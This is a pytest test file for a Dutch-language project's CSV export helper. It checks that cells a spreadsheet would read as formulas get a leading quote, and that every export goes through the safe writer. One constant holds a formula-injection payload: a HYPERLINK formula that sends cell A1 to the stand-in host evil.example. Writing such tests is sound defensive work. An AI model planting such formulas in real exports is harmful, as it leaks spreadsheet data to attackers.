"""Spreadsheet exports neutralise cells a spreadsheet would read as a formula (CSV/formula injection)."""

import csv
import io
from decimal import Decimal

import pytest

from koers.utils.export import neutraliseer, veilige_csv_writer

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_with_a_formula_character_gets_a_leading_quote(begin):
    assert neutraliseer(f"{begin}1+1") == f"'{begin}1+1"


def test_hyperlink_formula_is_neutralised():
    assert neutraliseer(HYPERLINK) == "'" + HYPERLINK


def test_formula_behind_leading_spaces_is_neutralised_too():
    assert neutraliseer("  =1+1") == "'  =1+1"


def test_ordinary_text_and_real_numbers_stay_as_they_are():
    assert neutraliseer("Amina Haddad") == "Amina Haddad"
    assert neutraliseer("NL91ABNA0417164300") == "NL91ABNA0417164300"
    assert neutraliseer(Decimal("-12.50")) == Decimal("-12.50")
    assert neutraliseer(-3) == -3
    assert neutraliseer(None) is None


def test_negative_number_typed_as_text_is_neutralised():
    assert neutraliseer("-12.50") == "'-12.50"


def test_writer_neutralises_every_cell_and_keeps_numbers_numeric():
    uitvoer = io.StringIO()
    schrijver = veilige_csv_writer(uitvoer, delimiter=";", lineterminator="\n")
    schrijver.writerow([HYPERLINK, "@SUM(A1)", Decimal("-5.00"), "gewoon"])
    rij = next(csv.reader(io.StringIO(uitvoer.getvalue()), delimiter=";"))
    assert rij == ["'" + HYPERLINK, "'@SUM(A1)", "-5.00", "gewoon"]


def test_every_export_uses_the_safe_writer():
    """No module writes CSV or XLSX past the shared helper (a new export would otherwise skip neutralising);
    reading an uploaded file (csv.DictReader, openpyxl.load_workbook) is not an export."""
    from pathlib import Path

    import koers

    bron = Path(koers.__file__).parent
    eigen = bron / "utils" / "export.py"
    direct = [
        str(p.relative_to(bron))
        for p in bron.rglob("*.py")
        if p != eigen
        and any(
            t in p.read_text()
            for t in ("csv.writer(", "csv.DictWriter(", "openpyxl import Workbook", "openpyxl.Workbook", "xlsxwriter")
        )
    ]
    assert direct == []
